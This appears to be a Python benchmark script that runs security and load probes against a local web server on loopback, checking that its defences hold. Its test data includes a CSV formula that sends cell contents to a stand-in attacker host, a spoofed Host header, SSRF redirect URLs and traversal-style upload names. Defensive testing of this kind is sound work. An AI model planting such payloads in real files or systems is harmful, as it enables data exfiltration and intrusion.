"""Abuse bench: the probes of issue 16 against a real `ruydad serve` on loopback, bounded in time.

Usage: .venv/bin/python scripts/bench_abuse.py [--slow-fetches 50] [--writers 8] [--seconds 40]

Starts a misbehaving site on loopback (a URL that sends one byte a second, redirects) and
`ruydad serve` over a fresh store holding the bundled UCDP sample, then, while 50 extraction
requests for the slow URL and 8 writers sharing one token run, asks the dashboard's questions
every quarter second and times them. Then it probes request forgery, chunked bodies, error
echoes, an undated event, CSV formulas, unbounded reads, host names and browser headers, upload
names and `brief` on a bad theatre, and prints what held. Nothing leaves 127.0.0.x.
"""

from __future__ import annotations

import argparse
import os
import socket
import statistics
import subprocess
import sys
import tempfile
import time
from collections import Counter
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import httpx

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from tests.web.slowserver import serving  # noqa: E402  (the same misbehaving site the tests use)

CLI = [sys.executable, "-c", "from ruydad.cli import main; main()"]
DASHBOARD = ["/", "/api/summary", "/api/stats?by=admin1", "/api/trend?period=month", "/api/events?limit=50"]
results: list[tuple[str, bool, str]] = []


def held(name: str, ok: bool, figures: str) -> None:
    results.append((name, ok, figures))
    print(f"[{'held' if ok else 'FAILED'}] {name}: {figures}", flush=True)


def free_port(host: str = "127.0.0.1") -> int:
    with socket.socket() as s:
        s.bind((host, 0))
        return int(s.getsockname()[1])


def rss_mb(pid: int) -> float:
    """Resident memory of a process and its children (the extraction workers), in MB."""
    total = 0
    pids = [pid]
    for task in Path(f"/proc/{pid}/task").glob("*"):
        try:
            pids += [int(c) for c in (task / "children").read_text().split()]
        except OSError:
            continue
    for p in pids:
        try:
            for line in Path(f"/proc/{p}/status").read_text().splitlines():
                if line.startswith("VmRSS:"):
                    total += int(line.split()[1])
        except OSError:
            continue
    return total / 1024


def ruydad(db: Path, *args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*CLI, "--db", str(db), *args], capture_output=True, text=True, timeout=300,
                          env={**os.environ, **(env or {})}, cwd=ROOT)


def chunked(port: int, path: str, headers: dict[str, str], chunks: Iterator[bytes]) -> tuple[int, int, bytes]:
    """Send a chunked body by hand; (status, bytes sent before the answer, response body)."""
    sent = 0
    with socket.create_connection(("127.0.0.1", port)) as sock:
        head = [f"POST {path} HTTP/1.1", "Host: 127.0.0.1", "Transfer-Encoding: chunked",
                *(f"{k}: {v}" for k, v in headers.items()), "", ""]
        sock.sendall("\r\n".join(head).encode())
        sock.settimeout(0.01)
        received = b""
        for chunk in chunks:
            try:
                sock.sendall(f"{len(chunk):x}\r\n".encode() + chunk + b"\r\n")
                sent += len(chunk)
            except OSError:
                break
            try:
                received += sock.recv(65536)
            except (TimeoutError, BlockingIOError):
                pass
            if b"\r\n\r\n" in received:
                break
        else:
            sock.sendall(b"0\r\n\r\n")
        sock.settimeout(30)
        while b"\r\n\r\n" not in received:
            part = sock.recv(65536)
            if not part:
                break
            received += part
        time.sleep(0.2)
        sock.settimeout(0.5)
        try:
            received += sock.recv(65536)
        except OSError:
            pass
    head_text, _, body = received.partition(b"\r\n\r\n")
    return int(head_text.split(b" ")[1]) if head_text else 0, sent, body


PROBE = """
import json, sys, time, httpx
base, stop, paths = sys.argv[1], sys.argv[2], sys.argv[3:]
began, seen = time.perf_counter(), []
from pathlib import Path
with httpx.Client(timeout=30) as client:
    while not Path(stop).exists():
        for path in paths:
            started = time.perf_counter()
            try:
                code = client.get(base + path).status_code
            except httpx.HTTPError as exc:
                code = type(exc).__name__
            seen.append([path, started - began, time.perf_counter() - started, code])
        time.sleep(0.25)
print(json.dumps(seen))
"""
"""The dashboard's user, in a process of its own: the load generator's threads must not delay it."""


def under_load(base: str, token: str, slow: str, args: argparse.Namespace, export: Path, pid: int) -> None:
    import json

    stop = Path(tempfile.mkdtemp()) / "stop"
    probe = subprocess.Popen([sys.executable, "-c", PROBE, base, str(stop), *DASHBOARD], stdout=subprocess.PIPE,
                             text=True)
    time.sleep(1.0)  # the probe is up and has asked once before the load starts

    extract_codes: Counter[int] = Counter()
    extract_done: list[float] = []

    def fetch(_: int) -> None:
        started = time.perf_counter()
        answer = httpx.post(f"{base}/api/extract", json={"url": f"{slow}/drip?interval=1&total=600"},
                            headers={"Authorization": f"Bearer {token}"}, timeout=300)
        extract_codes[answer.status_code] += 1
        extract_done.append(time.perf_counter() - started)

    writer_codes: Counter[int] = Counter()
    deadline = time.monotonic() + args.seconds

    def write(_: int) -> None:
        while time.monotonic() < deadline:
            with export.open("rb") as handle:
                answer = httpx.post(f"{base}/api/ingest/acled", headers={"Authorization": f"Bearer {token}"},
                                    files={"file": ("small.csv", handle, "text/csv")}, timeout=300)
            writer_codes[answer.status_code] += 1

    rss_before = rss_mb(pid)
    started = time.perf_counter()
    with ThreadPoolExecutor(args.slow_fetches + args.writers) as pool:
        jobs = [pool.submit(fetch, i) for i in range(args.slow_fetches)]
        jobs += [pool.submit(write, i) for i in range(args.writers)]
        peak = rss_before
        while not all(j.done() for j in jobs):
            peak = max(peak, rss_mb(pid))
            time.sleep(0.5)
        for job in jobs:
            job.result()
    stop.touch()
    seen = json.loads(probe.communicate(timeout=120)[0])
    latencies = [s[2] for s in seen]
    slow_paths = [f"{s[0]} {s[2]:.2f} s at {s[1]:.0f} s" for s in seen if s[2] > 1.0]
    failures = Counter(str(s[3]) for s in seen if s[3] != 200)
    took = time.perf_counter() - started
    slow_answers = sum(1 for x in latencies if x > 1.0)
    held("dashboard answers within 1 s while slow fetches and writers run",
         slow_answers == 0 and not failures,
         f"{len(latencies)} requests, p50 {statistics.median(latencies) * 1000:.0f} ms, "
         f"p95 {sorted(latencies)[int(len(latencies) * 0.95)] * 1000:.0f} ms, "
         f"max {max(latencies) * 1000:.0f} ms, over 1 s: {slow_answers} {slow_paths}, "
         f"errors: {dict(failures) or 'none'}")
    if extract_done:
        held(f"{args.slow_fetches} slow URL extractions bounded", set(extract_codes) <= {503, 429},
             f"answers {dict(extract_codes)}, all answered within {max(extract_done):.1f} s "
             f"(first {min(extract_done):.2f} s)")
    if args.writers:
        held(f"{args.writers} parallel writers with one token", writer_codes.get(500, 0) == 0
             and bool(writer_codes), f"answers {dict(writer_codes)} over {took:.0f} s")
    held("server memory under that load", peak - rss_before < 1500,
         f"RSS (server + workers) {rss_before:.0f} MB before, peak {peak:.0f} MB")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--slow-fetches", type=int, default=50)
    parser.add_argument("--writers", type=int, default=8)
    parser.add_argument("--seconds", type=float, default=40.0, help="How long the writers keep writing.")
    args = parser.parse_args()
    sys.path.insert(0, str(ROOT))
    from ruydad.bench import write_synthetic_acled

    with tempfile.TemporaryDirectory() as tmp, serving("127.0.0.1") as slow, serving("127.0.0.2") as private:
        work = Path(tmp)
        db = work / "abuse.duckdb"
        sample = ROOT / "ruydad" / "data" / "sample" / "ucdp_aec_afghanistan.csv"
        assert ruydad(db, "ingest", "ucdp", str(sample)).returncode == 0
        token = next(line.strip() for line in ruydad(db, "token", "create", "bench").stdout.splitlines()
                     if line.strip().startswith("rdt_"))
        export = work / "small.csv"
        write_synthetic_acled(export, 5)
        port = free_port()
        env = {**os.environ, "RUYDAD_FETCH_ALLOW": "127.0.0.1"}  # the slow site; 127.0.0.2 stays private
        server = subprocess.Popen([*CLI, "--db", str(db), "serve", "--port", str(port)], cwd=ROOT, env=env,
                                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        base = f"http://127.0.0.1:{port}"
        try:
            for _ in range(200):
                try:
                    if httpx.get(f"{base}/api/summary", timeout=5).status_code == 200:
                        break
                except httpx.HTTPError:
                    time.sleep(0.3)
            print(f"server up on {base}; store {db}; server pid {server.pid}\n", flush=True)
            under_load(base, token, slow, args, export, server.pid)
            probes(base, port, token, slow, private, db, server.pid)
        finally:
            server.terminate()
            server.wait(timeout=30)
    failed = [name for name, ok, _ in results if not ok]
    print(f"\n{len(results) - len(failed)} of {len(results)} held"
          + (f"; failed: {', '.join(failed)}" if failed else ""))


def probes(base: str, port: int, token: str, slow: str, private: str, db: Path, pid: int) -> None:
    auth = {"Authorization": f"Bearer {token}"}
    post: Callable[..., httpx.Response] = lambda path, **kw: httpx.post(base + path, timeout=120, **kw)  # noqa: E731

    # 2. request forgery: an open and a closed private port, and a redirect there, read the same
    closed = f"http://127.0.0.2:{free_port('127.0.0.2')}/"
    answers = [post("/api/extract", json={"url": u}, headers=auth) for u in
               (f"{private}/article", closed, f"{slow}/redirect?to={private}/article")]
    texts = {a.json()["detail"].split(": ", 1)[-1] for a in answers}
    held("private addresses refused, one text for open/closed/redirect", len(texts) == 1
         and all(a.status_code == 400 for a in answers), f"statuses {[a.status_code for a in answers]}, "
         f"{len(texts)} distinct text(s)")

    # 1b. long texts: four parallel 150k-character articles
    article = (ROOT / "ruydad" / "data" / "articles" / "newsweek-2022-08-30-afghan-rebel-groups.txt").read_text()
    long_text = (article * (150_000 // len(article) + 1))[:150_000]
    rss, peak, started = rss_mb(pid), rss_mb(pid), time.perf_counter()
    with ThreadPoolExecutor(4) as pool:
        jobs = [pool.submit(post, "/api/extract", json={"text": long_text}, headers=auth) for _ in range(4)]
        while not all(j.done() for j in jobs):
            peak = max(peak, rss_mb(pid))
            time.sleep(0.5)
    codes = Counter(j.result().status_code for j in jobs)
    held("four parallel 150k-character texts bounded in time and memory", set(codes) <= {200, 503}
         and time.perf_counter() - started < 120, f"answers {dict(codes)} in {time.perf_counter() - started:.1f} s, "
         f"RSS (server + workers) {rss:.0f} MB before, peak {peak:.0f} MB")

    # 3. chunked bodies: an anonymous upload, an oversized JSON body; no echo
    def upload() -> Iterator[bytes]:
        yield b'--b\r\nContent-Disposition: form-data; name="file"; filename="x.csv"\r\n\r\n'
        for _ in range(1400):
            yield b"a," * (512 * 1024)

    started = time.perf_counter()
    status, sent, _ = chunked(port, "/api/ingest/acled", {"Content-Type": "multipart/form-data; boundary=b"},
                              upload())
    held("anonymous chunked upload refused before the body", status == 401 and sent < 100 * 2**20,
         f"HTTP {status} after {sent / 2**20:.1f} MB sent, {time.perf_counter() - started:.2f} s")
    rss = rss_mb(pid)

    def big_json() -> Iterator[bytes]:
        yield b'{"text": "'
        for _ in range(300):
            yield b"ECHO" * (256 * 1024)

    status, sent, body = chunked(port, "/api/extract", {"Content-Type": "application/json"}, big_json())
    held("chunked 300 MB JSON refused on the stream, not echoed", status == 413 and b"ECHO" not in body,
         f"HTTP {status} after {sent / 2**20:.1f} MB, answer {len(body)} bytes, "
         f"RSS {rss:.0f} -> {rss_mb(pid):.0f} MB")
    echo = post("/api/extract", json={"text": "x", "title": "ECHO" * 100_000})
    held("validation error does not echo input", echo.status_code == 422 and "ECHO" not in echo.text,
         f"HTTP {echo.status_code}, {len(echo.text)} bytes")

    # 5. an undated article event, then the trend and the overview
    added = post("/api/articles", json={"text": "Taliban attacked NRF in Panjshir."}, headers=auth)
    trend = httpx.get(f"{base}/api/trend", timeout=60)
    summary = httpx.get(f"{base}/api/summary", timeout=60)
    held("undated event leaves trend and overview working", trend.status_code == summary.status_code == 200,
         f"add-article HTTP {added.status_code}, /api/trend {trend.status_code}, /api/summary {summary.status_code}")

    # 6. CSV formulas
    formula = db.parent / "formula.csv"
    import csv

    from ruydad.bench import write_synthetic_acled

    write_synthetic_acled(formula, 3)
    with formula.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        row["notes"] = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    with formula.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    with formula.open("rb") as handle:
        post("/api/ingest/acled", headers=auth, files={"file": ("formula.csv", handle, "text/csv")})
    exported = httpx.get(f"{base}/api/events", params={"format": "csv", "limit": 1000}, timeout=60).text
    notes = [r["notes"] for r in csv.DictReader(exported.splitlines()) if "HYPERLINK" in r["notes"]]
    held("CSV export neutralises formulas", bool(notes) and all(n.startswith("'") for n in notes),
         f"{len(notes)} formula cells, all quoted: {all(n.startswith(chr(39)) for n in notes)}")

    # 7. unbounded reads and the cache
    started = time.perf_counter()
    wide = httpx.get(f"{base}/api/stats", params={"by": "actor,admin2,day", "events": 1000}, timeout=120)
    held("grouped stats paged", wide.status_code == 200 and len(wide.json()["rows"]) <= 1000,
         f"{len(wide.content) / 2**20:.2f} MB in {time.perf_counter() - started:.2f} s, "
         f"rows {len(wide.json().get('rows', []))} of {wide.json().get('total_rows')}")
    rss = rss_mb(pid)
    started = time.perf_counter()
    with httpx.Client(timeout=30) as client:
        for n in range(2000):
            client.get(f"{base}/api/events", params={"limit": 1000, f"junk{n}": "x" * 500})
    held("junk query parameters do not grow the cache", rss_mb(pid) - rss < 200,
         f"2000 requests in {time.perf_counter() - started:.1f} s, RSS {rss:.0f} -> {rss_mb(pid):.0f} MB")

    # 8. host names, headers, upload names, brief
    rebound = httpx.get(f"{base}/api/summary", headers={"Host": "attacker.example"}, timeout=10)
    page = httpx.get(f"{base}/", timeout=10)
    held("unknown Host refused; CSP and X-Frame-Options on the dashboard",
         rebound.status_code == 400 and "content-security-policy" in page.headers
         and page.headers.get("x-frame-options") == "DENY",
         f"Host attacker.example -> {rebound.status_code}; X-Frame-Options {page.headers.get('x-frame-options')}")
    names = [post("/api/ingest/acled", headers=auth, files={"file": (n, b"x\n", "text/csv")}).status_code
             for n in (".", "..", "a" * 300)]
    held("bad upload names answered 422", names == [422, 422, 422], f"{names}")
    brief = ruydad(db, "brief", "--theatre", "bogus", "--from", "2022-01-01", "--to", "2022-06-30", "--out",
                   str(db.parent / "b.html"))
    held("brief --theatre bogus exits non-zero", brief.returncode != 0, f"exit {brief.returncode}")


if __name__ == "__main__":
    main()
